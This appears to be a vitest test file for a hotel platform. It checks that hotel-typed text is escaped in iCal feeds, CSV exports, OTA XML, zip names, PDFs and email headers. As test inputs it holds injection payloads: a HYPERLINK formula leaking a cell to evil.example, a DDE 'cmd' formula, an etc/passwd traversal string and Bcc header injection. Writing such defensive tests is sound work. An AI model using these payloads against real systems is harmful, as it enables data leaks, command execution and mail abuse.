/**
 * Feeds and files escape what hotels type (issue 24 §3). A hotel's own text (its name, room names,
 * an operator's codes) is an attacker's input for every format the server writes: an iCal room
 * feed gains no event or property from a room name with line breaks (escaped and folded per RFC
 * 5545), a CSV cell never starts a formula (OWASP: also after blanks, in full-width forms, after a
 * line break, and `|`), the OTA XML keeps it as attribute text, a zip entry never leaves its
 * folder, the fact-sheet PDF prints markup as text, and a mail header cannot be split.
 */
import { mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ICAL from 'ical.js';
import PostalMime from 'postal-mime';
import { XMLParser } from 'fast-xml-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dialects } from '../helpers/db.js';
import { startTestApp, type TestApp } from '../helpers/app.js';
import { PASSWORD, signIn, type Account } from '../helpers/accounts.js';
import { Mailbox } from '../helpers/mailbox.js';
import { createProperty } from '../helpers/properties.js';
import { party, type Party } from '../helpers/fixtures/contract-parties.js';
import { accepted, call, expectStatus } from '../helpers/fixtures/contracted-operator.js';
import { apiKey, partner, publishNow, type Json } from '../helpers/fixtures/partner-api-access.js';
import { pdfText, zipNames } from '../helpers/file-readers.js';
import { csvRows, zipEntry } from '../helpers/file-readers.js';
import { createMailer } from '../../src/server/plugins/mail.js';

const INJECTED_ROOM = 'Suite\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\nEND:VEVENT';
const HOTEL = ' =HYPERLINK("http://evil.example/?"&A1)/../../etc/passwd <b>Bold</b>;,\\ "quoted" ]]>';
/** Room names a spreadsheet would run, each with what the CSV must hold instead. */
const FORMULAS = [
  '=1+2',
  "  =cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '+1',
  '-2+3',
  '＝1+2',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '|calc',
  '\n=1+2',
  '\r\n+1',
  '\tx',
  '\u3000=1',
];
const HARMLESS = ['-5', 'Double', 'a=b'];

for (const dialect of dialects()) {
  describe(`feeds and files escape what hotels type (${dialect})`, () => {
    let t: TestApp;
    let hotel: Party;
    let op: Party;
    let property: number;
    let rooms: Json[];
    beforeAll(async () => {
      t = await startTestApp(dialect);
      hotel = await party(t, 'accommodation');
      op = await party(t, 'to');
      property = (await createProperty(t, hotel.owner.token, { hotel_name: HOTEL })).id;
      const saved = await t.api('POST', `/api/facts/rooms/update/${property}/`, {
        token: hotel.owner.token,
        body: [INJECTED_ROOM, ...FORMULAS, ...HARMLESS].map((room_name) => ({
          id: 0,
          room_name,
          room_name_type: 'double room',
          room_view: 'Sea view',
        })),
      });
      expect(saved.statusCode, saved.body).toBe(200);
      rooms = saved.json() as Json[];
      await accepted(t, hotel.owner, op.owner);
      await publishNow(t, property, hotel.owner.id);
      const now = t.clock.now().toISOString();
      await t.services.db.kysely
        .insertInto('stop_sale_events')
        .values(
          ['2026-12-02', '2026-12-03'].map((date) => ({
            property_id: property,
            room_id: rooms[0]!.id as number,
            date,
            color: 2,
            updated_by: hotel.owner.id,
            updated_at: now,
          })) as never,
        )
        .execute();
      await expectStatus(
        await call(t, op.owner, 'POST', '/api/tour-operator/mapping/hotel/create/', {
          hotel: property,
          override_code: 'H<1>&"',
          stop_event_code: 'SS;,\\x',
        }),
        201,
      );
    }, 120_000);
    afterAll(() => t.stop());

    it('keeps a room feed to its own events whatever the room is named: text escaped, lines folded at 75 octets', async () => {
      const key = await apiKey(t, op.owner);
      const res = await partner(
        t,
        key.token,
        `/api/v1/properties/${property}/rooms/${rooms[0]!.id}/stop-sale/ical/?from=2026-12-01&to=2026-12-10`,
      );
      expect(res.statusCode, res.body).toBe(200);
      const lines = res.body.split('\r\n');
      expect(lines.filter((l) => l === 'BEGIN:VEVENT')).toHaveLength(1);
      expect(lines.some((l) => /^SUMMARY:injected/.test(l))).toBe(false);
      for (const line of lines) expect(Buffer.byteLength(line), line).toBeLessThanOrEqual(75);
      // Each line is a property (NAME[;params]:value) or a fold's continuation: nothing bare.
      for (const line of lines.filter(Boolean)) expect(line, line).toMatch(/^([A-Z][A-Z0-9-]*[;:]| )/);
      const cal = new ICAL.Component(ICAL.parse(res.body));
      const events = cal.getAllSubcomponents('vevent');
      expect(events).toHaveLength(1);
      expect(events[0]!.getFirstPropertyValue('summary')).toBe('Stop Sale (SS;,\\x)');
      // The calendar's name, unescaped per RFC 5545 (ical.js leaves X- values as written), is the text as typed.
      const raw = String(cal.getFirstPropertyValue('x-wr-calname'));
      const name = raw.replace(/\\([\\;,nN])/g, (_, c: string) => (c.toLowerCase() === 'n' ? '\n' : c));
      expect(name).toBe(`${HOTEL.trim()} — ${INJECTED_ROOM.replace(/\r\n/g, '\n')}`);
    });

    it('keeps hotel text as attribute text in the OTA XML', async () => {
      const key = await apiKey(t, op.owner);
      const res = await partner(
        t,
        key.token,
        `/api/v1/properties/${property}/stop-sale/ota/?from=2026-12-01&to=2026-12-10`,
      );
      expect(res.statusCode, res.body).toBe(200);
      const doc = new XMLParser({
        ignoreAttributes: false,
        attributeNamePrefix: '',
        isArray: (n) => n === 'AvailStatusMessage',
      }).parse(res.body) as Json;
      const messages = doc.OTA_HotelAvailNotifRQ.AvailStatusMessages;
      expect(messages.HotelName).toBe(HOTEL.trim());
      expect(messages.HotelCode).toBe('H<1>&"');
      expect(Object.keys(messages).sort()).toEqual(['AvailStatusMessage', 'HotelCode', 'HotelName']);
      expect(res.body).not.toContain('<b>');
    });

    it("neutralises formulas in the operator's CSV and keeps zip entries inside their folder", async () => {
      const created = await expectStatus(
        await call(t, op.owner, 'POST', '/api/tour-operator/exports/', {
          hotels: [property],
          contents: ['json', 'csv'],
          language: 'en',
          layout: 'G',
        }),
        201,
      );
      await t.services.jobs.runDue();
      const zip = (await t.api('GET', `/api/tour-operator/exports/${created.id}/download/`, { token: op.owner.token }))
        .rawPayload;
      const names = zipNames(zip);
      for (const name of names) {
        expect(name.split('/'), name).not.toContain('..');
        // eslint-disable-next-line no-control-regex
        expect(name, name).not.toMatch(/^\/|\\|[\u0000-\u001f]/);
      }
      expect(names.filter((n) => n.endsWith('facts.json'))).toHaveLength(1);
      const roomRows = csvRows(zipEntry(zip, 'room.csv').toString('utf8'));
      const cells = roomRows.flat();
      for (const name of FORMULAS) {
        expect(cells, JSON.stringify(name)).toContain(`'${name}`);
        expect(cells, JSON.stringify(name)).not.toContain(name);
      }
      for (const name of HARMLESS) expect(cells, name).toContain(name);
      const hotelCells = csvRows(zipEntry(zip, 'hotels.csv').toString('utf8')).flat();
      expect(hotelCells).toContain(`'${HOTEL.trim()}`);
    });

    it('prints markup a hotel typed as text in its fact-sheet PDF', async () => {
      const res = await t.api('GET', `/api/facts/download-facts/${property}/?layout=&language=en`, {
        token: hotel.owner.token,
      });
      expect(res.statusCode, res.body.slice(0, 200)).toBe(201);
      // Compared without white space: the sheet may wrap a long name anywhere (after "</" too).
      const text = pdfText(res.rawPayload).replace(/\s+/g, '');
      expect(text).toContain('<b>Bold</b>');
      expect(text).toContain('BEGIN:VEVENTSUMMARY:injectedEND:VEVENT');
    }, 60_000);
  });

  describe(`mail headers hold against hotel text (${dialect})`, () => {
    let t: TestApp;
    const box = new Mailbox();
    const outbox = mkdtempSync(path.join(os.tmpdir(), 'ananas-outbox-'));
    beforeAll(async () => {
      const real = createMailer({
        from: 'Ananas <no-reply@ananas.local>',
        outboxDir: outbox,
        log: { info: () => undefined } as never,
      });
      t = await startTestApp(dialect, { mailer: { send: async (m) => (await box.send(m), await real.send(m)) } });
    });
    afterAll(() => t.stop());

    it('writes a name with line breaks into the subject of an invitation, never as a header of its own', async () => {
      const email = `eve-${Math.random().toString(36).slice(2, 8)}@example.com`;
      const first = 'Eve\r\nBcc: victim@evil.example\r\nX-Injected: 1';
      const reg = await t.api('POST', '/api/auth/users/', {
        body: {
          email,
          password: PASSWORD,
          re_password: PASSWORD,
          account_type: 'accommodation',
          first_name: first,
          last_name: 'Owner\nSubject: other',
        },
      });
      expect(reg.statusCode, reg.body).toBe(201);
      const { uid, token } = box.link(email, 'activate');
      expect((await t.api('POST', '/api/auth/users/activation/', { body: { uid, token } })).statusCode).toBe(204);
      const owner: Account = { id: reg.json().id, email, token: await signIn(t, email) };
      const member = `member-${Math.random().toString(36).slice(2, 8)}@example.com`;
      const invite = await t.api('POST', '/api/auth/users/', {
        token: owner.token,
        body: {
          email: member,
          password: PASSWORD,
          re_password: PASSWORD,
          account_type: 'accommodation',
          first_name: 'Mo',
          last_name: 'Member',
          manager: owner.id,
        },
      });
      expect(invite.statusCode, invite.body).toBe(201);
      const files = readdirSync(outbox).filter((f) => f.endsWith('.eml'));
      const parsed = await Promise.all(files.map((f) => PostalMime.parse(readFileSync(path.join(outbox, f)))));
      const invitation = parsed.find(
        (m) => m.to?.some((a) => a.address === member) && /invited you/.test(m.subject ?? ''),
      );
      expect(invitation, JSON.stringify(parsed.map((m) => m.subject))).toBeDefined();
      expect(invitation!.bcc ?? []).toEqual([]);
      expect(invitation!.to).toHaveLength(1);
      expect(invitation!.headers.map((h) => h.key)).not.toContain('x-injected');
      expect(invitation!.headers.filter((h) => h.key === 'subject')).toHaveLength(1);
      expect(invitation!.subject).toContain('Eve');
      expect(invitation!.subject).toContain('Bcc: victim@evil.example');
    });
  });
}
